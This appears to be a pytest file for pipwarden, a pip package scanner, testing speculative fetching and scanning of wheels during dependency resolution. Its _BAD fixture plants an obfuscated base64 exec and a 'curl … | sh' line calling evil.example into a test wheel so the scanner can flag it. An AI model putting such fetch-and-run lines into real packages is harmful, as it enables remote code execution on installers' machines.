"""Fetches and scans started while pip still resolves (`pipwarden.speculate`): they
only ever save time. A candidate pip discards is fetched and scanned, and never
judged; a file of the closure scanned ahead of the report is judged exactly as
it would be without."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest

from pipwarden import speculate
from pipwarden.pipview import candidate_file
from pipwarden.scan import scan_target
from tests.support.builders import build_wheel
from tests.support.indexserver import LocalIndex

needs_two_cores = pytest.mark.skipif((os.cpu_count() or 1) < 2, reason="needs two cores")

_BAD = (
    "import base64, os\n"
    "exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cDovL3guaW8vYSB8IHNoIik='))\n"
    "os.system('curl http://evil.example/x | sh')\n"
)


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("  Downloading wt_app-2.0-py3-none-any.whl (73 kB)", "wt_app-2.0-py3-none-any.whl"),
        (
            "  Downloading wt_app-2.0-py3-none-any.whl.metadata (2 kB)",
            "wt_app-2.0-py3-none-any.whl",
        ),
        ("  Using cached wt_app-2.0-py3-none-any.whl (73 kB)", "wt_app-2.0-py3-none-any.whl"),
        (
            "Processing /opt/pypi/files/h11-0.16.0-py3-none-any.whl (from httpcore==1.*->httpx)",
            "h11-0.16.0-py3-none-any.whl",
        ),
        ("Processing ./wheels/a_b-1.0%2Bx-py3-none-any.whl", "a_b-1.0+x-py3-none-any.whl"),
        ("Collecting wt-app (from -r req.txt (line 1))", None),
        ("  Downloading wt_app-2.0.tar.gz (3 kB)", None),  # pip never builds: wheels only
        ("  Downloading not-a-wheel.whl (1 kB)", None),
        ("Would install wt_app-1.0", None),
    ],
)
def test_the_candidates_pip_names_while_it_resolves(line: str, expected: str | None) -> None:
    assert candidate_file(line) == expected


class _Recorder:
    """A scanner that records what it is given."""

    def __init__(self) -> None:
        self.got: dict[str, Path] = {}

    def submit(self, sha256: str | None, path: Path) -> bool:
        assert sha256 is not None
        self.got[sha256] = path
        return True


def test_a_named_wheel_is_fetched_verified_and_handed_over(index: LocalIndex) -> None:
    from pipwarden.index import IndexClient, sha256_file
    from pipwarden.store import Store

    index.add_dist(build_wheel("wt-app", "2.0"))
    served = {f.filename: f.sha256 for f in index.projects["wt-app"].files}
    client = IndexClient(index.url, store=Store(), retries=1, timeout=5)
    scanner = _Recorder()
    spec = speculate.Speculation(client, scanner)
    spec.follow(
        [
            "Collecting wt-app",
            "  Downloading wt_app-2.0-py3-none-any.whl (1 kB)",
            "  Downloading wt_app-2.0-py3-none-any.whl (1 kB)",  # once only
            "  Downloading wt_nowhere-1.0-py3-none-any.whl (1 kB)",  # not on the index
        ]
    )
    spec._pool.shutdown(wait=True)
    sha = served["wt_app-2.0-py3-none-any.whl"]
    assert list(scanner.got) == [sha] and spec.submitted == {sha: "wt_app-2.0-py3-none-any.whl"}
    assert sha256_file(scanner.got[sha]) == sha
    spec.stop()  # after stop, nothing new starts
    spec.follow(["  Downloading wt_app-3.0-py3-none-any.whl (1 kB)"])
    assert list(scanner.got) == [sha]


@pytest.mark.parametrize("internal", [False, True])
def test_the_publishers_evidence_is_fetched_ahead_except_for_internal_names(
    index: LocalIndex, internal: bool
) -> None:
    from pipwarden.index import IndexClient
    from pipwarden.publishers.lookup import project_evidence
    from pipwarden.store import Store

    index.add_dist(build_wheel("wt-app", "2.0"))
    client = IndexClient(index.url, store=Store(), retries=1, timeout=5, json_url=index.json_url)
    spec = speculate.Speculation(client, _Recorder(), evidence_for=lambda name: not internal)
    spec.follow(["  Downloading wt_app-2.0-py3-none-any.whl (1 kB)"])
    spec._pool.shutdown(wait=True)
    asked = sum(n for path, n in index.requests.items() if path.startswith("/pypi/"))
    assert asked == (0 if internal else 1)
    if not internal:  # the check then reads it from the store, without asking again
        assert project_evidence(client, "wt-app").name == "wt-app"
        assert sum(n for path, n in index.requests.items() if path.startswith("/pypi/")) == 1


def test_speculation_is_bounded(index: LocalIndex, monkeypatch: pytest.MonkeyPatch) -> None:
    from pipwarden.index import IndexClient
    from pipwarden.store import Store

    for v in ("1", "2", "3"):
        index.add_dist(build_wheel("wt-app", v))
    monkeypatch.setattr(speculate, "MAX_PER_PROJECT", 2)
    client = IndexClient(index.url, store=Store(), retries=1, timeout=5)
    scanner = _Recorder()
    spec = speculate.Speculation(client, scanner)
    spec.follow([f"  Downloading wt_app-{v}-py3-none-any.whl (1 kB)" for v in ("3", "2", "1")])
    spec._pool.shutdown(wait=True)
    assert sorted(spec.submitted.values()) == [
        "wt_app-2-py3-none-any.whl",
        "wt_app-3-py3-none-any.whl",
    ]


class _Seen(speculate.Speculation):
    """The Speculation the pipeline makes, kept for the test to look at."""

    made: list[speculate.Speculation] = []

    def __init__(self, *args: Any, **kwargs: Any) -> None:
        super().__init__(*args, **kwargs)
        _Seen.made.append(self)

    def stop(self) -> None:
        """Stop only once every line pip wrote was followed (however slow this machine is
        today: pip on a local index can finish before the first look-up)."""
        if self._thread is not None:
            self._thread.join()
        self._pool.shutdown(wait=True)
        super().stop()


@pytest.fixture
def backtracking(index: LocalIndex) -> LocalIndex:
    """wt-app 2.0 (a payload) needs wt-pin>=2, which the request forbids: pip reads
    wt-app 2.0, then settles on the clean wt-app 1.0."""
    index.add_dist(build_wheel("wt-app", "1.0", {"wt_app/__init__.py": "V = 1\n"}))
    index.add_dist(
        build_wheel("wt-app", "2.0", {"wt_app/__init__.py": _BAD}, requires=["wt-pin>=2"])
    )
    index.add_dist(build_wheel("wt-pin", "1.0"))
    index.add_dist(build_wheel("wt-pin", "2.0"))
    return index


@needs_two_cores
def test_a_discarded_candidate_is_scanned_but_never_judged(
    backtracking: LocalIndex, run_cli: Any, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    import pipwarden.vet

    _Seen.made = []
    monkeypatch.setattr(pipwarden.vet, "Speculation", _Seen)
    args = ["--index-url", backtracking.url, "--retries", "1", "--timeout", "5"]
    res = run_cli("check", "wt-app", "wt-pin<2", *args, "--format", "json")
    assert res.exit_code == 0, res.stdout + res.stderr
    doc = json.loads(res.stdout)
    assert doc["verdict"] == "allow"
    assert {(p["name"], p["version"]) for p in doc["packages"]} == {
        ("wt-app", "1.0"),
        ("wt-pin", "1.0"),
    }
    # The payload release was read ahead of the report (and is malicious) ...
    (spec,) = _Seen.made
    served = {f.filename: f.sha256 for f in backtracking.projects["wt-app"].files}
    bad = served["wt_app-2.0-py3-none-any.whl"]
    assert spec.submitted.get(bad) == "wt_app-2.0-py3-none-any.whl"
    wheel = tmp_path / "bad.whl"
    wheel.write_bytes(backtracking.projects["wt-app"].files[1].data)
    assert scan_target(wheel).verdict != "clean"


@needs_two_cores
def test_a_closure_file_scanned_ahead_is_judged_as_without(
    backtracking: LocalIndex, run_cli: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    import pipwarden.vet

    _Seen.made = []
    monkeypatch.setattr(pipwarden.vet, "Speculation", _Seen)
    args = ["--index-url", backtracking.url, "--retries", "1", "--timeout", "5"]
    res = run_cli("check", "wt-app==2.0", *args, "--format", "json")
    assert res.exit_code == 1, res.stdout + res.stderr
    ahead = json.loads(res.stdout)
    (spec,) = _Seen.made
    served = {f.filename: f.sha256 for f in backtracking.projects["wt-app"].files}
    assert served["wt_app-2.0-py3-none-any.whl"] in spec.submitted
    # the same request without speculation, from an empty home
    monkeypatch.setenv("PIPWARDEN_HOME", str(Path(os.environ["PIPWARDEN_HOME"]) / "again"))
    monkeypatch.setattr(pipwarden.vet.code_check.EarlyScans, "open", lambda self: False)
    _Seen.made = []
    res = run_cli("check", "wt-app==2.0", *args, "--format", "json")
    assert res.exit_code == 1 and _Seen.made == []
    alone = json.loads(res.stdout)
    code = [
        [f for f in p["findings"] if f["check"] == "code"]
        for doc in (ahead, alone)
        for p in doc["packages"]
        if p["name"] == "wt-app"
    ]
    assert code[0] and code[0] == code[1]
